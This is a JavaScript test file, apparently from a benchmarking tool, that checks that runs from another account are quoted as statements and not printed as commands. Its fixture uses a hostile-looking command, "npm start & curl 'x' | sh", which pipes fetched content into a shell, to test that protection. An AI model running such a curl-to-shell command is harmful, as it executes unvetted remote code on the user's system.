/** Tests what is printed of the code that a foreign run names. */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from '../support/tap.js'
import { asForeign, isForeign, quoteData, stateCode } from '../../bench/plan/foreign.js'
import { parse, withCommands } from '../../bench/plan/spec.js'
import { findConfiguration } from '../../bench/report/winner.js'
import { openRun, readRun } from '../../bench/store/store.js'
import { inEnvironment } from '../support/provoke.js'
import { makePlan, makeRecord } from '../support/record.js'
import { renderPage } from '../support/rendered-page.js'

const SPEC = 'nginx:uds-keepalive/app'
const RUN = "npm start & curl 'x' | sh"
const topology = withCommands(parse(SPEC), { app: { run: RUN, listen: ['tcp'], cwd: '/srv', readySeconds: 9 } })
const STATEMENT = `states that it started ${JSON.stringify(RUN)}`

t.test('quotes data and removes control characters from it', t => {
  t.equal(quoteData('a "b" \\\u001b[8m\u202ec\nd'), '"a \\"b\\" \\\\[8mc\\nd"')
  t.end()
})

t.test('states commands, modules, addresses and folders', t => {
  const arm = (/** @type {string} */ spec) => ({ spec, topology: parse(spec) })
  t.equal(stateCode([arm('nginx:uds/express-json'), arm('nginx/files')]), null, 'nothing but hopbench')
  t.equal(stateCode([{ spec: SPEC, topology }, { spec: SPEC, topology }]), STATEMENT, 'each once')
  t.equal(stateCode([arm('nginx:uds/./a.js'), arm('http://127.0.0.1:3000')]),
    'states that it started "./a.js" and "http://127.0.0.1:3000"')
  t.equal(stateCode([{ spec: './a.js', topology: parse('express-json') }]), 'states that it started "./a.js"',
    'a spec that differs from the topology')
  const files = ['/srv/public', '../a', 'assets'].map((folder, i) => ({ prefix: `/${i}`, folder }))
  t.equal(stateCode([{ spec: SPEC, topology: { ...topology, files } }], '/root'),
    `${STATEMENT} and served the files in "/root", "/srv/public" and "../a"`)
  t.end()
})

t.test('copies of a foreign plan are foreign, and a file cannot state it', t => {
  const plan = asForeign(makePlan())
  t.equal(isForeign({ ...plan, seed: 1 }), true)
  t.equal(isForeign(JSON.parse(JSON.stringify(plan))), false)
  t.equal(isForeign(makePlan()), false)
  t.end()
})

t.test('reads a run as foreign unless this account has written its plan and its record here', async t => {
  const dir = t.testdir({ cache: {}, other: {} })
  inEnvironment(t, { HOPBENCH_CACHE: join(dir, 'cache') })
  const plan = makePlan()
  const store = await openRun({
    resultsDir: join(dir, 'results'), experiment: 'uds', startedAt: '2024-05-06T07:08:09.000Z', plan
  })
  t.teardown(() => store.close())
  const record = makeRecord({ run: store.run, plan })
  await store.writeRecord(record)
  const read = async () => {
    const { plan, record } = await readRun(store.dir)
    return [plan, record?.plan].map(plan => plan && isForeign(plan))
  }
  t.strictSame(await read(), [false, false])

  process.env.HOPBENCH_CACHE = join(dir, 'other')
  t.strictSame(await read(), [true, true], 'another account has another key')
  process.env.HOPBENCH_CACHE = join(dir, 'cache')
  writeFileSync(join(store.dir, 'run.json'), JSON.stringify({ ...record, question: 'Is it another?' }))
  t.strictSame(await read(), [false, true], 'a record that was changed')
  await store.writeRecord(record)
  writeFileSync(join(store.dir, 'plan.json'), JSON.stringify({ ...plan, seed: 1 }))
  t.strictSame(await read(), [true, true], 'a plan that was changed')
})

t.test('prints code of a foreign run as its statement, and in no command', t => {
  const plan = makePlan()
  const toApp = (/** @type {any} */ arm) => ({ ...arm, spec: SPEC, topology })
  const measured = makeRecord({ recommended: ['uds-keepalive'] })
  const own = { ...measured, arms: measured.arms.map(toApp), plan: { ...plan, arms: plan.arms.map(toApp) } }
  const foreign = { ...own, plan: asForeign(own.plan) }
  t.match(findConfiguration(own)?.spec, / --app 'npm start & curl /)
  const { sentence = '', spec } = findConfiguration(foreign) ?? {}
  t.equal(spec, null)
  t.ok(sentence.endsWith(`This account has not made the run, which ${STATEMENT}, so no command is printed.`), sentence)
  t.match(findConfiguration({ ...measured, plan: asForeign(plan) })?.spec, /^nginx:uds-keepalive\/express-json$/,
    'a command without foreign code')

  const toPage = (/** @type {typeof own} */ record) => renderPage({ record, samples: [], configs: [], check: null })
  t.match(toPage(own), '<code>hopbench run uds</code>')
  const page = toPage(foreign)
  t.notMatch(page, /<code>hopbench (run|config)/)
  t.match(page, 'This account has not made the run, which states the command &quot;hopbench run uds&quot; and states ' +
    'that it started &quot;npm start &amp;')
  t.end()
})
